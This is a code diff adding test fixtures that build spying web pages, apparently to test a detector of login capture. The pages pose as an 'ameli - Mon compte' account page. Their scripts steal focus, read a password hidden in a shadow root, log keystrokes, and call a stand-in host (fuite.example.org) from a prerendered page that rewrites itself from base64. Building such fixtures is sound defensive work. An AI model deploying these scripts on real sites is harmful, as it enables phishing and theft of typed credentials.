@@ -84,3 +84,55 @@ POINTED = {
     "label": SPY + "<label class=key for=secret>sept</label><input id=secret onfocus='tell(\"focused\")'>",
 }  # fmt: skip
 """What is chosen with the pointer, by anything else than a click."""
+
+ACCOUNT = "ameli - Mon compte"
+TAKES_THE_FOCUS = (
+    SPY
+    + "<div id=away tabindex=0>.</div><script>setInterval(() => document.activeElement === away || (focus(), away.focus()), 5)</script>"
+)
+FOCUS_TAKEN = {
+    "from its own field": page(FORM + TAKES_THE_FOCUS, ACCOUNT),
+    "from a frame's field": page("<iframe src='//cadre-neutre.info/'></iframe>" + TAKES_THE_FOCUS, ACCOUNT),
+    "from a strong host's frame": page("<iframe src='//ameli-lettre.fr/'></iframe>" + TAKES_THE_FOCUS),
+}
+"""Pages that listen where nobody thinks to be writing, while they or their frames are asked about."""
+
+
+def rooted(mode: str) -> str:
+    """A posing page whose only field stands in a shadow root, where it is not looked for before it has the focus."""
+    return page(
+        SPY
+        + f"<div id=secret></div><script>const r = secret.attachShadow({{mode: '{mode}'}}); r.innerHTML = '<input type=password>';"
+        "setInterval(() => r.firstChild.value && tell('rooted:' + r.firstChild.value), 15);"
+        "addEventListener('keydown', (e) => (window.arrows = [...(window.arrows ?? []), e.key]), true)</script>",
+        ACCOUNT,
+    )
+
+
+EDIT_CONTEXT = SPY + (
+    "<canvas id=secret tabindex=0></canvas><script>secret.focus(); const c = new EditContext(); secret.editContext = c;"
+    "for (const type of ['compositionstart', 'textupdate']) c.addEventListener(type, (e) => tell(type + (e.data ?? e.text)))</script>"
+)
+"""It is given to what has the focus already."""
+
+_SWALLOWS = "<script>addEventListener('prerenderingchange', (e) => e.stopImmediatePropagation(), true)</script>"
+_UNSEEN = page(_SWALLOWS + SPY + "<div tabindex=0>code</div>")
+MADE_READY = page(
+    "<script>fetch('https://fuite.example.org/ready?' + document.prerendering);"
+    + f"const made = atob('{base64.b64encode(_UNSEEN.encode()).decode()}');"
+    "document.open(); document.write(made); document.close()</script>"
+)
+"""Begins anew unseen, and lets nobody hear that it is shown."""
+
+
+def leading_to(address: str) -> str:
+    """A page that has another one made ready, with a link to it."""
+    rules = f'{{"prerender": [{{"urls": ["{address}"], "eagerness": "immediate"}}]}}'
+    return page(f'<a id=go href="{address}">Suite</a><script type=speculationrules>{rules}</script>')
+
+
+SHOWN_AGAIN = page(
+    "<input id=city><script>window.arrows = []; addEventListener('keydown', (e) => arrows.push(e.key), true);"
+    "setInterval(() => dispatchEvent(new PageTransitionEvent('pageshow', {persisted: true})), 1)</script>"
+)
+"""Says of itself that it comes back."""
